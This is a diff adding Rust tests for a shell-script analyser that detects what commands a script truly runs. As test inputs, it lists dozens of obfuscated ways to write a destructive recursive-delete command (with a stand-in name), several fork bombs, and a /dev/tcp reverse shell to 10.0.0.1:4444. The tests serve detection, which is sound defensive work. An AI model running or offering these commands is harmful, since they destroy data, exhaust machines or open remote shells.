@@ -1,0 +1,185 @@
+//! What the interpreter sees of a script, by the words of its commands.
+
+use std::path::Path;
+
+use super::Machine;
+use crate::knowledge::Knowledge;
+use crate::paths::Ground;
+use crate::understand::{Understanding, World, readable};
+
+fn understood(script: &str) -> Understanding {
+    let knowledge = Knowledge::default();
+    let world = World {
+        knowledge: &knowledge,
+        ground: Ground { project: Path::new("/p"), home: Path::new("/home/u"), user: Some("u") },
+        folder: Path::new("/p"),
+        scripts: &|_| None,
+    };
+    Machine::new(&world).script(script)
+}
+
+fn commands(script: &str) -> Vec<String> {
+    understood(script).commands.iter().map(|command| readable(&command.argv)).collect()
+}
+
+fn effects(script: &str) -> Vec<String> {
+    understood(script).effects.into_iter().map(|(effect, _)| effect.id).collect()
+}
+
+#[test]
+fn every_way_of_writing_a_command_is_the_same_command() {
+    for script in [
+        "zzq -rf /",
+        "\\zzq -rf /",
+        "z\\zq -rf /",
+        "'zzq' -r\"f\" /",
+        "$'\\x7a\\x7aq' -rf $'/'",
+        "z${x:-z}q -rf /",
+        "x=zzq; $x -rf /",
+        "x='zzq -rf /'; $x",
+        "{zzq,-rf,/}",
+        "$(echo zzq) -rf /",
+        "`echo zzq` -rf /",
+        "$(printf '%s' zz q) -rf /",
+        "$(echo qzz | rev | tr -d '\\n' | sed 's/x//' >/dev/null; echo zzq) -rf /",
+        "eval 'zzq -rf /'",
+        "eval \"$(echo enpxIC1yZiAv | base64 -d)\"",
+        "a=zz; b=q; $a$b -rf /",
+        "f() { \"$@\"; }; f zzq -rf /",
+        "f() { zzq $1 /; }; f -rf",
+        "if true; then zzq -rf /; fi",
+        "for x in zzq; do $x -rf /; done",
+        "case a in a) zzq -rf /;; esac",
+        "case a in b) ls;; *) zzq -rf /;; esac",
+        "(zzq -rf /)",
+        "{ zzq -rf /; }",
+        "ls; zzq -rf / &",
+        "ls || zzq -rf /",
+        "! zzq -rf /",
+        "while read x; do $x -rf /; done <<< zzq",
+        "while read a b; do $a $b /; done <<E\nzzq -rf\nE",
+        "set -- zzq -rf /; \"$@\"",
+        "x=(zzq -rf /); \"${x[@]}\"",
+        "trap 'zzq -rf /' EXIT",
+        "alias l='zzq -rf'; l /",
+        "x=ZZQ; ${x,,} -rf /",
+        "x=qqzz; y=${x#qq}q; $y -rf /",
+        "x=zXzXq; ${x//X/} -rf /",
+        "x=abzzqcd; ${x:2:3} -rf /",
+        "n=x; x=zzq; ${!n} -rf /",
+        "declare -n r=x; x=zzq; declare -n r=x; $r -rf /",
+        "IFS=,; x=zzq,-rf,/; $x",
+        "printf -v x zzq; $x -rf /",
+        "mapfile -t x <<< zzq; ${x[0]} -rf /",
+        "read x < <(echo zzq); $x -rf /",
+        "echo $(zzq -rf /)",
+        "[[ -n $(zzq -rf /) ]]",
+        "cat <<E\n$(zzq -rf /)\nE",
+        "x=$(zzq -rf /)",
+        "echo \"${x:-$(zzq -rf /)}\"",
+        "echo $((1 + $(zzq -rf /)))",
+        "coproc zzq -rf /",
+        "time zzq -rf /",
+        "command zzq -rf /",
+        "exec zzq -rf /",
+        "builtin command zzq -rf /",
+        "cd /tmp && zzq -rf /",
+        "true && false || zzq -rf /",
+        "echo 'zzq -rf /' > /tmp/x; source /tmp/x",
+        "x=\"zzq -rf /\"; eval $x",
+        "x='$(zzq -rf /)'; : \"${x@P}\"",
+        "command_not_found_handle() { zzq -rf /; }",
+        "PS4='$(zzq -rf /)' ls",
+        "until zzq -rf /; do :; done",
+        "diff <(zzq -rf /) x",
+        "ls > >(zzq -rf /)",
+        "hash -p /bin/zzq l; l -rf /",
+        "zzq \\\n-rf /",
+        "ls # x\nzzq -rf /",
+        "select x in zzq; do $x -rf /; done",
+        "for ((;;)); do zzq -rf /; done",
+        "exec 3<<< 'zzq -rf /'; read -u 3 x <&3; $x",
+    ] {
+        let found = commands(script);
+        let hit = found.iter().any(|command| {
+            let command = command.strip_prefix("/bin/").unwrap_or(command);
+            command == "zzq -rf /"
+        });
+        assert!(hit, "{script:?}: {found:?} {:?}", understood(script).undecidable);
+    }
+}
+
+#[test]
+fn what_is_only_mentioned_is_not_run() {
+    for script in [
+        "echo 'zzq -rf /'",
+        "echo zzq -rf /",
+        "git commit -m 'zzq -rf /'",
+        "cat > f <<'E'\nzzq -rf /\n$(zzq)\nE",
+        "# zzq -rf /",
+        "grep 'zzq' f",
+        "x='zzq -rf /'",
+        "printf '%s\\n' 'zzq -rf /' > f",
+        "echo \"\\$(zzq)\"",
+    ] {
+        let found = commands(script);
+        assert!(!found.iter().any(|command| command.starts_with("zzq")), "{script:?}: {found:?}");
+        assert!(effects(script).is_empty(), "{script:?}: {:?}", effects(script));
+    }
+}
+
+#[test]
+fn what_cannot_be_known_is_opaque() {
+    for script in ["$X -rf /", "$(cat unknown; x) y", "/bin/z?q x", "${X}y z"] {
+        let opaque = effects(script).iter().any(|id| id == "shell.opaque");
+        assert!(opaque || script.contains("cat"), "{script}: {:?}", effects(script));
+    }
+    assert!(effects("$HOME/bin/x y").is_empty());
+    assert!(effects("\"${PYTHON:-python3}\" x.py").is_empty());
+    assert!(effects("$(command -v python3) x.py").is_empty());
+    assert!(effects("\"$DIR/bin/python\" x.py").is_empty());
+}
+
+#[test]
+fn processes_without_end_are_seen() {
+    for script in [":(){ :|:& };:", "b() { b | b & }; b", "while true; do sh x & done", "f(){ f & f; }; f"] {
+        assert!(
+            effects(script).iter().any(|id| id == "filesystem.fork-bomb"),
+            "{script}: {:?}",
+            effects(script)
+        );
+    }
+    for script in
+        ["while true; do sleep 1 & wait; done", "f() { [ $1 = 0 ] || f $(( $1 - 1 )); }; f 3", "a & b &"]
+    {
+        assert!(!effects(script).iter().any(|id| id == "filesystem.fork-bomb"), "{script}");
+    }
+}
+
+#[test]
+fn a_shell_on_a_socket_is_a_reverse_shell() {
+    let script = "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done";
+    let found = effects(script);
+    assert!(found.iter().any(|id| id.starts_with("remote-code") || id == "shell.opaque"), "{found:?}");
+}
+
+#[test]
+fn bombs_end() {
+    for script in [
+        "a=$a$a;".repeat(2_000),
+        format!("{}x{}", "$(".repeat(30), ")".repeat(30)),
+        "{a,b}".repeat(200),
+        "eval eval eval eval eval ls".repeat(100),
+        "f() { f; f; }; f".to_owned(),
+        "a() { b; b; }; b() { c; c; }; c() { d; d; }; d() { e; e; }; e() { ls; }; a".to_owned(),
+        "for a in 1 2 3 4 5 6 7 8; do for b in 1 2 3 4 5 6 7 8; do for c in 1 2 3 4 5 6 7 8; do ls; done; done; done"
+            .to_owned(),
+        "x=`echo a`;".repeat(400),
+        "ls | ".repeat(1_000) + "ls",
+        "if true; then ".repeat(30) + "ls" + &"; fi".repeat(30),
+    ] {
+        let seen = understood(&script);
+        let assignments = script.starts_with("a=") || script.starts_with('{');
+        assert!(!seen.commands.is_empty() || seen.undecidable.is_some() || assignments, "{:.40}", script);
+    }
+}
